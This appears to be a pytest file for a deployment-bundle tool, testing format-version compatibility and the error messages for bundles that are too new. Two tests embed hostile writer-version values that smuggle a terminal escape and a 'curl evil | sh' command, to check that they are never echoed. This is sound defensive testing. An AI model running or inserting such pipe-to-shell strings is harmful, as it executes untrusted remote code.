"""Zones on different bundlekit versions keep working together (issue 11, decision 562).

A bundle names its writer (format 1.4 ``writer``); a reader accepts every older minor version
and refuses another major version naming the bundlekit release to install. What every
bundlekit release wrote is kept in fixtures/written-by/ forever, byte for byte, and imported
here by the bundlekit under test through its real CLI.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import struct
from pathlib import Path

import pytest

from bundlekit import __version__
from bundlekit.format import codec
from bundlekit.format.container import FORMAT_MAJOR, HEADER_SIZE, MAGIC, BundleFile
from bundlekit.importer.verify import read_unverified
from tests.conftest import FIXTURES, RELEASE, raises_code, run_cli

WRITTEN_BY = FIXTURES / "written-by"
#: Every release whose bundles are kept. A release adds itself (fixtures/make_written_by.py); none leaves.
KEPT = ["0.1.0", "0.8.0"]
#: Releases whose folder holds every kind of bundle zones exchange (0.1.0's holds a release bundle only).
EVERY_KIND = ["0.8.0"]
#: What such a folder holds besides its homes (fixtures/make_written_by.py says how each was made).
BUNDLES = ("release.bundle", "relayed-release.bundle", "self.bundle", "receipt.bundle", "relayed-receipt.bundle")


def _sums() -> dict[str, str]:
    out = {}
    for line in (WRITTEN_BY / "SHA256SUMS").read_text("utf-8").splitlines():
        digest, name = line.split("  ", 1)
        out[name] = digest
    return out


def test_fixtures_of_older_writers_are_kept_byte_for_byte() -> None:
    sums = _sums()
    for version in KEPT:
        mine = {n: d for n, d in sums.items() if n.startswith(f"{version}/")}
        assert f"{version}/release.bundle" in mine, f"the bundles bundlekit {version} wrote are gone"
        for name, digest in mine.items():
            data = (WRITTEN_BY / name).read_bytes()
            assert hashlib.sha256(data).hexdigest() == digest, f"{name} was changed; fixtures are kept as written"
    for version in EVERY_KIND:
        for name in (*BUNDLES, "dev.card", "staging.card", "prod.card", "dev-home/state.db", "prod-home/state.db"):
            assert f"{version}/{name}" in sums, f"{version}/{name} is gone"
    versions = {n.split("/", 1)[0] for n in sums}
    assert versions == set(KEPT), "list every kept release in KEPT"


def _home(kept: Path, name: str, tmp_path: Path) -> Path:
    """A copy of a kept home (its state as that release left it), keys 0600 as the zone made them
    (a checkout does not keep the mode)."""
    home = tmp_path / name
    shutil.copytree(kept / f"{name}-home", home)
    for key in (home / "keys").iterdir():
        key.chmod(0o600)
    return home


def _writer(bundle: Path) -> str | None:
    bf, manifest = read_unverified(bundle)
    bf.close()
    return manifest.writer


@pytest.mark.parametrize("version", EVERY_KIND)
def test_a_destination_on_this_version_takes_every_bundle_an_older_source_sent_it(
        version: str, tmp_path: Path) -> None:
    """A release, the next one relayed by staging, and a bundlekit (export-self) bundle, as that
    release wrote them, verify and import into its prod home with the bundlekit under test."""
    kept = WRITTEN_BY / version
    prod = _home(kept, "prod", tmp_path)
    for name in ("release.bundle", "relayed-release.bundle", "self.bundle"):
        assert _writer(kept / name) == f"bundlekit {version}"
        verified = run_cli("verify", kept / name, home=prod)
        assert verified.returncode == 0, f"{name}: {verified.stderr}"
    for name in ("release.bundle", "relayed-release.bundle"):
        imported = run_cli("import", kept / name, home=prod)
        assert imported.returncode == 0, f"{name}: {imported.stderr}"
    assert "relayed by staging" in imported.stdout
    releases = run_cli("releases", "list", home=prod, env={"NO_COLOR": "1"}).stdout
    assert "1.4.0" in releases and "1.4.1" in releases and "from dev seq 2" in releases
    # a bundlekit bundle is taken by self-update; its tiny wheels are not meant to install
    dry = run_cli("self-update", kept / "self.bundle", "--dry-run", home=prod)
    assert dry.returncode == 0 and "would install bundlekit" in dry.stdout, dry.stderr


@pytest.mark.parametrize("version", EVERY_KIND)
def test_a_source_on_this_version_reads_the_receipts_an_older_destination_sent_back(
        version: str, tmp_path: Path) -> None:
    """prod's receipt (outputs leaving, sealed and withheld; a refused import) and its next one,
    relayed back by staging, as that release wrote them, verify and import into dev's home (as it
    was after its exports) with the bundlekit under test, which then shows what they report."""
    kept = WRITTEN_BY / version
    dev = _home(kept, "dev", tmp_path)
    for name in ("receipt.bundle", "relayed-receipt.bundle"):
        assert _writer(kept / name) == f"bundlekit {version}"
        verified = run_cli("verify", kept / name, home=dev)
        assert verified.returncode == 0, f"{name}: {verified.stderr}"
        imported = run_cli("import", kept / name, home=dev)
        assert imported.returncode == 0, f"{name}: {imported.stderr}"
    outputs = json.loads(run_cli("outputs", "acme-web", "--zone", "prod", "--reveal", "--json", home=dev).stdout)
    values = {o["name"]: (o["value"], o["withheld"]) for o in outputs["outputs"]}
    assert values["SchemaVersion"] == ("42", False)  # left in the clear
    assert values["MigrationToken"] == ("tok-s3cret-value", False)  # sealed to dev, opened by its key
    assert values["SmokeResult"] == (None, True)  # withheld by prod's egress policy
    board = json.loads(run_cli("dashboard", "--json", home=dev).stdout)
    done = {(d["release"], d["state"]): [(p["zone"], p["event"]) for p in d["path"]] for d in board["deployments"]}
    assert done[("1.4.1", "succeeded")] == [("dev", "exported"), ("staging", "relayed"), ("prod", "deployed")]
    assert ("1.4.0", "succeeded") in done
    shown = run_cli("dashboard", home=dev, env={"NO_COLOR": "1"}).stdout
    assert "1.0.0 refused in prod: policy_denied" in shown  # the refused import came back too


@pytest.mark.parametrize("version", KEPT)
def test_a_zone_on_this_version_imports_what_an_older_release_wrote(version: str, tmp_path: Path) -> None:
    kept = WRITTEN_BY / version
    home = _home(kept, "prod", tmp_path)
    bundle = kept / "release.bundle"
    bf, manifest = read_unverified(bundle)
    bf.close()
    assert manifest.writer in (None, f"bundlekit {version}")
    verified = run_cli("verify", bundle, home=home)
    assert verified.returncode == 0, verified.stderr
    imported = run_cli("import", bundle, home=home)
    assert imported.returncode == 0, imported.stderr
    releases = run_cli("releases", "list", home=home, env={"NO_COLOR": "1"})
    assert releases.returncode == 0, releases.stderr
    assert "Acme Web" in releases.stdout and "1.4.0" in releases.stdout and "from dev seq 1" in releases.stdout


def test_a_bundle_names_the_bundlekit_that_wrote_it(tmp_path: Path) -> None:
    for zone in ("dev", "prod"):
        assert run_cli("init", "--zone", zone, home=tmp_path / zone).returncode == 0
        assert run_cli("identity", "-o", tmp_path / f"{zone}.card", home=tmp_path / zone).returncode == 0
    assert run_cli("trust", "add", tmp_path / "prod.card", home=tmp_path / "dev").returncode == 0
    out = tmp_path / "acme.bundle"
    done = run_cli("export", RELEASE, "--to", "prod", "-o", out, home=tmp_path / "dev")
    assert done.returncode == 0, done.stderr
    with BundleFile(out) as bf:
        raw = codec.decode(bf.manifest_bytes)
    assert raw["writer"] == {"name": "bundlekit", "version": __version__}
    shown = run_cli("inspect", out)
    assert f"written by bundlekit {__version__}" in shown.stdout
    assert json.loads(run_cli("inspect", out, "--json").stdout)["writer"] == f"bundlekit {__version__}"
    old = json.loads(run_cli("inspect", FIXTURES / "vectors" / "valid-release.bundle", "--json").stdout)
    assert old["writer"] is None and old["format_version"] == "1.0"


def _newer_major(path: Path, manifest: dict[str, object], major: int = FORMAT_MAJOR + 1) -> Path:
    """A bundle of another major version: header, a manifest, one (unchecked) signature record."""
    body = codec.encode(manifest)
    header = struct.pack(">8sHHB3sQQ", MAGIC, major, 0, 1, b"\0\0\0", 0, len(body))
    path.write_bytes(header + body + b"\0" * 96)
    assert len(header) == HEADER_SIZE
    return path


def test_a_newer_major_version_is_refused_naming_the_release_to_install(tmp_path: Path) -> None:
    bundle = _newer_major(tmp_path / "new.bundle", {"format": "bundlekit/2",
                                                     "writer": {"name": "bundlekit", "version": "3.1.0"}})
    with raises_code("unsupported_version") as info:
        BundleFile(bundle)
    assert "install bundlekit 3.1.0 or later" in info.value.message
    assert f"version 2.0; this bundlekit ({__version__}) reads format 1.x" in info.value.message
    # through the CLI too, before any key or home is needed
    done = run_cli("inspect", bundle)
    assert done.returncode != 0 and "install bundlekit 3.1.0 or later" in done.stderr


def test_a_newer_major_without_a_writer_names_the_format_to_look_for(tmp_path: Path) -> None:
    bundle = _newer_major(tmp_path / "new.bundle", {"format": "bundlekit/2"})
    with raises_code("unsupported_version") as info:
        BundleFile(bundle)
    assert f"newer than {__version__} that reads format 2" in info.value.message


def test_a_writer_version_that_is_not_a_version_is_not_repeated(tmp_path: Path) -> None:
    hostile = "3.1.0\x1b[2J; curl evil | sh"
    bundle = _newer_major(tmp_path / "new.bundle", {"format": "bundlekit/2",
                                                     "writer": {"name": "bundlekit", "version": hostile}})
    with raises_code("unsupported_version") as info:
        BundleFile(bundle)
    assert "evil" not in info.value.message and "\x1b" not in info.value.message
    assert "reads format 2" in info.value.message


def test_an_older_minor_version_is_read(tmp_path: Path) -> None:
    # the 1.0 vector (minor 0) opens and parses with this reader (the vectors test checks it fully)
    old = FIXTURES / "vectors" / "valid-release.bundle"
    bf, manifest = read_unverified(old)
    with bf:
        assert (bf.header.major, bf.header.minor) == (1, 0)
    assert manifest.writer is None  # 1.0 writers did not name themselves


def test_bundlekit_s_version_follows_the_highest_format_minor_it_reads_and_writes() -> None:
    """Decision 949: bundlekit 0.M.P reads and writes formats 1.0 to 1.M, so a release that adds a
    format minor must raise the version with it ("written by" and "install X" mean something)."""
    from packaging.version import Version

    from bundlekit.format.delta import DELTA_MINOR, PACKED_MINOR
    from bundlekit.format.relay import RELAY_MINOR
    from bundlekit.format.versions import READ_MINOR
    from bundlekit.receipt.egress import AUDIT_MINOR, EGRESS_MINOR, REFRESHED_MINOR, RELAYED_MINOR

    assert max(DELTA_MINOR, PACKED_MINOR, EGRESS_MINOR, AUDIT_MINOR, RELAY_MINOR, REFRESHED_MINOR,
               RELAYED_MINOR) == READ_MINOR, "a writer sets a minor above READ_MINOR: raise it and the version"
    running = Version(__version__)
    assert (running.major, running.minor) == (0, READ_MINOR)
    pyproject = (FIXTURES.parent / "pyproject.toml").read_text("utf-8")
    assert f'\nversion = "{__version__}"\n' in pyproject
    assert all(Version(kept) <= running for kept in KEPT), "fixtures/written-by holds this release and older ones"


def _header(path: Path, minor: int, kind: int) -> Path:
    """A copy of the 1.0 vector valid-release with its header's minor and kind byte replaced."""
    data = bytearray((FIXTURES / "vectors" / "valid-release.bundle").read_bytes())
    data[10:13] = struct.pack(">HB", minor, kind)
    path.write_bytes(bytes(data))
    return path


def test_an_unknown_kind_in_a_newer_minor_is_a_newer_version_naming_the_release_that_reads_it(
        tmp_path: Path) -> None:
    """Finding 13: a kind a later minor adds (as 1.6 added relayed bundles) is not damage."""
    from bundlekit.format.versions import READ_MINOR

    newer = _header(tmp_path / "newer.bundle", READ_MINOR + 1, 4)
    done = run_cli("inspect", newer, "--json")
    error = json.loads(done.stdout)["error"]
    assert done.returncode == 3 and error["code"] == "unsupported_version"
    assert f"bundle format version 1.{READ_MINOR + 1}, a kind of bundle (header kind byte 4)" in error["message"]
    assert f"this bundlekit ({__version__}) reads formats 1.0 to 1.{READ_MINOR}" in error["message"]
    assert f"install bundlekit 0.{READ_MINOR + 1}.0 or later" in error["message"]
    # the same kind byte at a minor this reader knows is a damaged header
    for minor in (0, READ_MINOR):
        with raises_code("malformed", match="unknown bundle kind byte 4"):
            BundleFile(_header(tmp_path / f"kind4-{minor}.bundle", minor, 4))


def test_a_refusal_never_names_a_version_that_is_not_newer_than_the_running_one(tmp_path: Path) -> None:
    """Finding 13: a major-2 header in a bundle written by 0.1.0 told a 0.1.0 user to install 0.1.0."""
    for older in ("0.1.0", __version__):
        bundle = _newer_major(tmp_path / f"new-{older}.bundle", {"format": "bundlekit/2",
                                                                  "writer": {"name": "bundlekit", "version": older}})
        with raises_code("unsupported_version") as info:
            BundleFile(bundle)
        assert f"install bundlekit {older}" not in info.value.message
        assert f"install a bundlekit release newer than {__version__} that reads format 2" in info.value.message


def test_a_newer_manifest_format_under_a_major_1_header_names_the_release_to_install() -> None:
    """atk36 finding 2: a manifest saying ``bundlekit/3`` (its header's major 1) named neither the
    release to install nor what to do, where the header-major refusal of the same code does."""
    from bundlekit.format.manifest import parse_manifest

    with raises_code("unsupported_version") as info:
        parse_manifest(codec.encode({"format": "bundlekit/3", "writer": {"name": "bundlekit", "version": "3.1.0"}}))
    assert f"format 'bundlekit/3'; this bundlekit ({__version__}) reads 'bundlekit/1'" in info.value.message
    assert "install bundlekit 3.1.0 or later (bundlekit self-update carries it across the gap)" in info.value.message
    with raises_code("unsupported_version") as info:
        parse_manifest(codec.encode({"format": "bundlekit/3"}))
    assert f"install a bundlekit release newer than {__version__} that reads format 3" in info.value.message


def test_a_manifest_format_that_names_no_newer_major_never_names_a_release() -> None:
    """A writer that is not newer, a hostile writer version, or a format that is no bundlekit format:
    no release is named that would not read it; the message says what to do instead."""
    from bundlekit.format.manifest import parse_manifest

    for manifest in ({"format": "bundlekit/3", "writer": {"name": "bundlekit", "version": "0.1.0"}},
                     {"format": "bundlekit/3", "writer": {"name": "bundlekit", "version": "9.0\x1b[2J; curl evil"}}):
        with raises_code("unsupported_version") as info:
            parse_manifest(codec.encode(manifest))
        assert "install bundlekit 0.1.0" not in info.value.message and "evil" not in info.value.message
        assert f"newer than {__version__} that reads format 3" in info.value.message
    for manifest in ({}, {"format": 7}, {"format": "bundlekit/01"}, {"format": "bundle\x1bkit/2"}):
        with raises_code("unsupported_version") as info:
            parse_manifest(codec.encode(manifest))
        assert "ask its source to send it again" in info.value.message and "\x1b" not in info.value.message
